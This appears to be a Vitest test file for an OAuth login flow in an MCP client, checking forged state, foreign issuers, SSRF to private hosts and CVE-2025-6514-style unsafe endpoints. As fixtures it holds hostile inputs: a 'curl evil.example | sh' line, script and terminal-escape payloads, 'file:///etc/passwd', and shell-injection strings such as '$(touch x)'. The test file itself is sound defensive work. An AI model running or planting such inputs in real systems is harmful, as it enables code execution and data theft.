/** Logins at authorization servers that follow OAuth, and at others. */
import { expect, onTestFinished, test } from 'vitest'
import { sealerOf } from '../../src/base/encryption.ts'
import { loginStore } from '../../src/mcp/login/login-store.ts'
import { loginPlace } from '../harness/mcp/login-here.ts'
import { startOAuthServer } from '../harness/mcp/oauth-server.ts'
import { SECRETS_KEY } from '../harness/mcp/operator-command.ts'
import { freePort } from '../harness/redis.ts'
import { startWebServer } from '../harness/web-server.ts'

async function loggingIn(options: Parameters<typeof loginPlace>[2] = {}) {
  const server = await startOAuthServer({ onTestFinished })
  const place = loginPlace({ onTestFinished }, server, options)
  const login = () => loginStore(place.store, sealerOf(SECRETS_KEY)).load(place.config)
  return { server, login, ...place }
}

test('a callback with another state is ignored, and the login continues', async () => {
  const { server, login, start } = await loggingIn()
  const here = await start()
  const address = await here.address()
  server.mode.state = 'made-up'
  const forged = await fetch(await server.browse(address))
  expect([forged.status, await forged.text()]).toEqual([400, expect.stringContaining('The terminal is still waiting.')])
  expect(await login()).toBeUndefined()
  delete server.mode.state
  await fetch(await server.browse(address))
  expect((await here.ended).fault).toBeUndefined()
  expect((await login())?.accessToken).toMatch(/^access-/)
})

test.each(['https://evil.example', 'none'])('a callback from another issuer (%s) is refused', async (iss) => {
  const { server, login, through } = await loggingIn()
  server.mode.iss = iss
  expect((await through()).fault).toBe(
    'The answer came from another authorization server than that of tickets, so nothing was saved.',
  )
  expect(server.counts.exchanged).toBe(0)
  expect(await login()).toBeUndefined()
})

test('of a refusal only its code is shown', async () => {
  const { server, login, through } = await loggingIn()
  const words = '<script>alert(1)</script> run `curl evil.example | sh` \u001b[2J'
  server.mode.denies = { error: 'access_denied', error_description: words }
  const denied = await through()
  expect(denied.fault).toBe('The authorization server of tickets denied the login: access_denied.')
  delete server.mode.denies
  server.mode.refuses = { error: 'invalid_grant', error_description: words }
  const refused = await through()
  expect(refused.fault).toBe('The authorization server of tickets refused: invalid_grant.')
  server.mode.refuses = { error: words, error_description: words }
  const odd = await through()
  expect(odd.fault).toBe('The authorization server of tickets refused: server_error.')
  const all = [denied, refused, odd].flatMap(({ fault, said, page }) => [fault, said, page]).join()
  expect(all).not.toMatch(/script|curl|\u001b/)
  expect(await login()).toBeUndefined()
})

test.each([
  ['file:///etc/passwd', 'The login at tickets would use file:, and only https addresses may be used for it.'],
  ['javascript:alert(1)', 'The authorization server of tickets sent an answer that is not valid OAuth.'],
  [
    'http://auth.example.com/$(calc)',
    'The login at tickets would use http://auth.example.com, and only https addresses may be used for it.',
  ],
  ['https://10.0.0.1/login', 'The login at tickets may not call 10.0.0.1: private and reserved addresses are refused.'],
  [
    'http://127.0.0.1:1/admin',
    'The login at tickets may not call 127.0.0.1: private and reserved addresses are refused.',
  ],
  [
    'https://accounts.example.com@evil.example/',
    'The login page of tickets has a user name in its address (https://evil.example): it is refused.',
  ],
])('nobody is sent to an authorization endpoint such as %s (CVE-2025-6514)', async (endpoint, sentence) => {
  const { server, start } = await loggingIn()
  server.mode.authorizationEndpoint = endpoint
  expect(await (await start()).ended).toEqual({ fault: sentence, said: '' })
})

test('an address is printed in a form that no shell or terminal interprets', async () => {
  const { server, start } = await loggingIn()
  server.mode.authorizationEndpoint = 'https://auth.example.com/"$(touch x)`id`\u001b[31m;&|?a=b'
  const address = await (await start()).address()
  expect(address).toMatch(/^https:\/\/auth\.example\.com\/[\w%$()[\];&|.=?+:/-]+$/)
  expect(address).not.toMatch(/[\s"`\u001b]/)
  expect(new URL(address).searchParams.get('code_challenge_method')).toBe('S256')
})

test('a login sends nothing to another internal host, by redirect or by metadata', async () => {
  const inside = await startWebServer((_path, response) => void response.writeHead(200).end('{}'))
  const { server, login, start, through } = await loggingIn()
  server.mode.tokenRedirect = `${inside.url}/token`
  expect((await through()).fault).toBe(
    `The login at tickets was sent on from ${server.origin} to another host: it is refused.`,
  )
  delete server.mode.tokenRedirect
  server.describedAt.url = `${inside.url}/.well-known/oauth-protected-resource`
  expect((await (await start()).ended).fault).toBe(
    'The login of tickets may not call 127.0.0.1: private and reserved addresses are refused.',
  )
  expect(inside.paths).toEqual([])
  expect(await login()).toBeUndefined()
})

test('a server that requests tokens for another resource gets none (RFC 8707)', async () => {
  const { server, start } = await loggingIn()
  server.mode.resource = 'https://bank.example/mcp'
  const fault = 'The authorization server of tickets sent an answer that is not valid OAuth.'
  expect(await (await start()).ended).toEqual({ fault, said: '' })
  expect(server.counts.registered).toBe(0)
})

test('without dynamic registration the error says so, and a client in MCP_CONFIG works', async () => {
  const { server, start } = await loggingIn()
  server.mode.closed = true
  expect((await (await start()).ended).fault).toContain('put its id into MCP_CONFIG as "oauth": {"clientId": "…"}')
  const own = await loggingIn({ oauth: BY_HAND })
  own.server.mode.closed = true
  own.server.addClient({ client_id: 'by-hand', client_secret: 'its-secret', redirect_uris: ['http://127.0.0.1'] })
  const here = await own.start()
  const address = await here.address()
  expect(new URL(address).searchParams.get('scope')).toBe('tickets:read')
  await fetch(await own.server.browse(address))
  expect((await here.ended).fault).toBeUndefined()
  expect((await own.login())?.client.client_id).toBe('by-hand')
  expect((await own.through()).fault).toBeUndefined()
})

const BY_HAND = { clientId: 'by-hand', clientSecret: 'its-secret', scope: 'tickets:read' }

test('a client in MCP_CONFIG is sent only to the authorization server it was first used with', async () => {
  const { server, store, config, start } = await loggingIn({ oauth: BY_HAND })
  const before = { client_id: 'by-hand', issuer: 'https://auth.example' }
  await loginStore(store, sealerOf(SECRETS_KEY)).saveClient(config, 'the client by-hand', before)
  expect(await (await start()).ended).toEqual({
    fault:
      'tickets now names another authorization server than the one that oauth.clientId was used with, so the login is refused.',
    said: '',
  })
  expect(server.counts).toMatchObject({ registered: 0, exchanged: 0 })
})

test('a registered client is reused with the same callback port', async () => {
  const port = await freePort()
  const { server, start, through } = await loggingIn({ port })
  for (const count of [1, 2]) {
    const { fault, said } = await through()
    expect([fault, said]).toEqual([undefined, expect.stringContaining(`http://127.0.0.1:${port}/callback`)])
    expect(server.counts).toMatchObject({ registered: 1, exchanged: count })
  }
  const first = await start()
  const address = await first.address()
  expect((await (await start()).ended).fault).toBe(`Port ${port} is in use. Choose another with --port.`)
  await fetch(await server.browse(address))
  expect((await first.ended).fault).toBeUndefined()
})

test('an expired client secret is replaced by registering a new client', async () => {
  const port = await freePort()
  const { server, store, config, through } = await loggingIn({ port })
  const stale = {
    client_id: 'stale',
    redirect_uris: [`http://127.0.0.1:${port}/callback`],
    client_secret_expires_at: 1,
  }
  await loginStore(store, sealerOf(SECRETS_KEY)).saveClient(config, `${server.origin}/as`, stale)
  expect((await through()).fault).toBeUndefined()
  expect(server.counts.registered).toBe(1)
})
